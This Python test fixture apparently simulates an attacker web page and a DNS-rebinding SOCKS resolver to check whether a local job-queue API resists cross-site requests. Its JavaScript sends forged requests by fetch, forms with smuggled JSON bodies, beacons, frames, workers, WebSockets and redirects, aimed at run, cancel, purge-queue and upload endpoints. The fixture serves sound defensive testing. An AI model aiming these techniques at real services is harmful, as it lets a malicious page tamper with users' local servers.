"""An attacker's web page: a site, a resolver for its own name, and ways to send requests.

Each way is a script that the page runs against a victim's address. Its name is part of every path
that it requests, so the victim's log shows what each way has sent.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from urllib.parse import unquote

EVIL_NAME = "evil.example"
REDIRECT = "/redirect?"

# Defined before each way. `gets` and `posts` are the addresses that it tries, `readable` collects
# what the page could read or saw to succeed, and `settled` waits for requests to end.
PREPARE = """
async ({base, way, job, site}) => {
  const gets = [`${base}/v2/other/job-take/${way}`, `${base}/v2/other/job-take-batch/${way}`,
                `${base}/v2/other/ping/${way}`, `${base}/v2/other/requests?${way}`,
                `${base}/v1/models?${way}`];
  const posts = [`${base}/v2/${way}/run`, `${base}/v2/${way}/runsync`,
                 `${base}/v2/other/cancel/${job}?${way}`, `${base}/v2/other/purge-queue?${way}`,
                 `${base}/v2/other/job-done/${way}/${job}`, `${base}/v1/files?${way}`];
  const body = '{"input": {"prompt": "x"}}';
  const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data',
                 'application/json'];
  const upload = () => {
    const form = new FormData();
    form.append('purpose', 'batch');
    form.append('file', new Blob([body]), 'a.jsonl');
    return form;
  };
  const readable = [], waiting = [];
  const limit = () => AbortSignal.timeout(5000);
  const read = (url, options) => waiting.push(
    fetch(url, {signal: limit(), ...options}).then(
      (response) => { if (response.ok) readable.push(url); }, () => {}));
  const all = (options) => {
    for (const url of gets) read(url, options);
    for (const url of posts) {
      read(url, {...options, method: 'POST'});
      for (const type of types)
        read(url, {...options, method: 'POST', body, headers: {'content-type': type}});
      read(url, {...options, method: 'POST', body: new Blob([body])});
      read(url, {...options, method: 'POST', body: upload()});
    }
  };
  const add = (name, properties, parent = document.body) => {
    const element = Object.assign(document.createElement(name), properties);
    parent.append(element);
    return element;
  };
  const event = (target, url, good, bad) => waiting.push(new Promise((resolve) => {
    target.addEventListener(good, () => { readable.push(url); resolve(); });
    target.addEventListener(bad, resolve);
    setTimeout(resolve, 5000);
  }));
  const submit = (method, url, type) => {
    const frame = add('iframe', {name: 'frame' + document.getElementsByTagName('iframe').length});
    waiting.push(new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 5000); }));
    const form = add('form', {action: url, method, enctype: type, target: frame.name});
    // A body of text/plain is `name=value`: this one is JSON.
    add('input', {name: '{"input": {"prompt": "', value: 'x"}}'}, form);
    form.submit();
  };
  // A frame, a worker or a new window runs this by itself.
  const script = `
    for (const url of ${JSON.stringify(gets)}) fetch(url, {mode: 'no-cors'}).catch(() => {});
    for (const url of ${JSON.stringify(posts)})
      fetch(url, {mode: 'no-cors', method: 'POST', body: ${JSON.stringify(body)}}).catch(() => {});
  `;
  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  %s
  await Promise.all(waiting);
  return readable;
}
"""

WAYS = {
    "fetch-cors": "all({mode: 'cors'});",
    "fetch-no-cors": "all({mode: 'no-cors'});",
    "fetch-same-origin": "all({mode: 'same-origin'});",
    "fetch-navigate": "all({mode: 'navigate'});",
    "fetch-credentials": "all({mode: 'cors', credentials: 'include'});",
    "fetch-no-referrer": "all({mode: 'no-cors', referrerPolicy: 'no-referrer'});",
    "fetch-authorization": "all({mode: 'cors', headers: {authorization: 'x'}});",
    "fetch-keepalive": "all({mode: 'no-cors', keepalive: true});",
    "xhr": """
      for (const [method, urls] of [['GET', gets], ['POST', posts]])
        for (const url of urls)
          waiting.push(new Promise((resolve) => {
            const request = new XMLHttpRequest();
            request.open(method, url);
            request.onload = () => { if (request.status < 400) readable.push(url); };
            request.onloadend = resolve;
            request.send(method === 'POST' ? body : null);
          }));""",
    "beacon": """
      for (const url of posts) {
        navigator.sendBeacon(url);
        for (const type of types) navigator.sendBeacon(url, new Blob([body], {type}));
        navigator.sendBeacon(url, upload());
      }
      await pause(1000);""",
    "image": "for (const url of gets) event(add('img', {src: url}), url, 'load', 'error');",
    "script": """
      for (const url of gets) event(add('script', {src: url}), url, 'load', 'error');
      for (const url of gets) import(url).then(() => readable.push(url), () => {});""",
    "style": """
      for (const url of gets) {
        event(add('link', {rel: 'stylesheet', href: url}), url, 'load', 'error');
        add('div', {style: `background-image: url("${url}&background")`});
        add('link', {rel: 'prefetch', href: url});
      }""",
    "media": """
      for (const url of gets)
        for (const name of ['video', 'audio'])
          event(add(name, {src: url}), url, 'loadeddata', 'error');""",
    "frame": """
      for (const url of gets) {
        const frame = add('iframe', {src: url});
        waiting.push(new Promise((resolve) => {
          // Null for a frame of another origin.
          frame.onload = () => {
            const text = frame.contentDocument?.body?.innerText ?? '';
            if (text && !text.includes('is not allowed')) readable.push(url);
            resolve();
          };
          setTimeout(resolve, 5000);
        }));
        add('object', {data: url});
        add('embed', {src: url});
      }""",
    "sandboxed-frame": """
      const frame = add('iframe', {srcdoc: '<script>' + script + '</' + 'script>'});
      frame.sandbox = 'allow-scripts';
      add('iframe', {sandbox: 'allow-scripts', srcdoc: '<script>' + script + '</' + 'script>'});
      await pause(1200);""",
    "worker": """
      new Worker(URL.createObjectURL(new Blob([script])));
      await pause(1200);""",
    "window": """
      for (const url of gets) open(url);
      await pause(1200);""",
    "form": """
      for (const url of gets) submit('get', url, 'text/plain');
      for (const url of posts) for (const type of types) submit('post', url, type);""",
    "event-source": """
      for (const url of gets) {
        const source = new EventSource(url);
        event(source, url, 'open', 'error');
        waiting.push(pause(1000).then(() => source.close()));
      }""",
    "websocket": """
      for (const url of gets) {
        const socket = new WebSocket(url.replace('http', 'ws'));
        event(socket, url, 'open', 'error');
      }""",
    "redirect": """
      const by = (url) => site + '/redirect?' + encodeURIComponent(url);
      for (const url of gets) {
        read(by(url), {mode: 'no-cors'});
        event(add('img', {src: by(url)}), url, 'load', 'error');
        submit('get', by(url), 'text/plain');
      }
      for (const url of posts) {
        read(by(url), {mode: 'no-cors', method: 'POST', body});
        submit('post', by(url), 'text/plain');
      }""",
}


def script_of(way: str) -> str:
    """Return the function that the page runs for one way."""
    return PREPARE.replace("%s", WAYS[way])


@dataclass(slots=True)
class Attacker:
    """A web site, and a SOCKS proxy that stands for the name server of the attacker's own name.

    The browser asks the proxy for each connection by name. While `is_rebound` is false, the name
    leads to the attacker's site, whatever the port; afterwards it leads to this machine, as after
    a second answer of a name server. All other names lead to this machine.
    """

    is_rebound: bool = False
    site_port: int = 0
    resolver_port: int = 0
    tasks: set[asyncio.Task[None]] = field(default_factory=set)

    @property
    def site_url(self) -> str:
        return f"http://localhost:{self.site_port}"

    async def serve_page(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Answer with an empty page, or redirect where the path says."""
        with suppress(ConnectionError, asyncio.IncompleteReadError):
            request = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            target = request.split(" ", 2)[1]
            if target.startswith(REDIRECT):
                # 307 repeats the method and the body.
                to = unquote(target.removeprefix(REDIRECT).partition("?")[0])
                head, page = f"HTTP/1.1 307 x\r\nlocation: {to}\r\n", ""
            else:
                head, page = "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\n", "<!doctype html>"
            end = f"connection: close\r\ncontent-length: {len(page)}\r\n\r\n{page}"
            writer.write((head + end).encode())
            writer.write_eof()
            while await reader.read(65_536):
                pass
        writer.close()

    async def resolve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Connect one client of the proxy (SOCKS5, RFC 1928) to where its name leads now."""
        task = asyncio.current_task()
        assert task is not None
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)
        with suppress(ConnectionError, asyncio.IncompleteReadError):
            _, methods = await reader.readexactly(2)
            await reader.readexactly(methods)
            writer.write(b"\x05\x00")
            _, _, _, kind = await reader.readexactly(4)
            sizes = {1: 4, 4: 16}
            size = sizes.get(kind) or (await reader.readexactly(1))[0]
            name = await reader.readexactly(size)
            port = int.from_bytes(await reader.readexactly(2))
            if name.decode("latin-1") == EVIL_NAME and not self.is_rebound:
                port = self.site_port
            try:
                other_reader, other_writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                writer.write(b"\x05\x05\x00\x01" + bytes(6))
            else:
                writer.write(b"\x05\x00\x00\x01" + bytes(6))
                async with asyncio.TaskGroup() as group:
                    group.create_task(_copy(reader, other_writer))
                    group.create_task(_copy(other_reader, writer))
        writer.close()


async def _copy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with suppress(ConnectionError):
        while data := await reader.read(65_536):
            writer.write(data)
            await writer.drain()
    writer.close()


@asynccontextmanager
async def attacker() -> AsyncIterator[Attacker]:
    """Run the site and the resolver on free ports."""
    evil = Attacker()
    site = await asyncio.start_server(evil.serve_page, "127.0.0.1", 0)
    resolver = await asyncio.start_server(evil.resolve, "127.0.0.1", 0)
    evil.site_port = site.sockets[0].getsockname()[1]
    evil.resolver_port = resolver.sockets[0].getsockname()[1]
    try:
        yield evil
    finally:
        site.close()
        resolver.close()
        for task in list(evil.tasks):
            task.cancel()
        await asyncio.gather(*evil.tasks, return_exceptions=True)
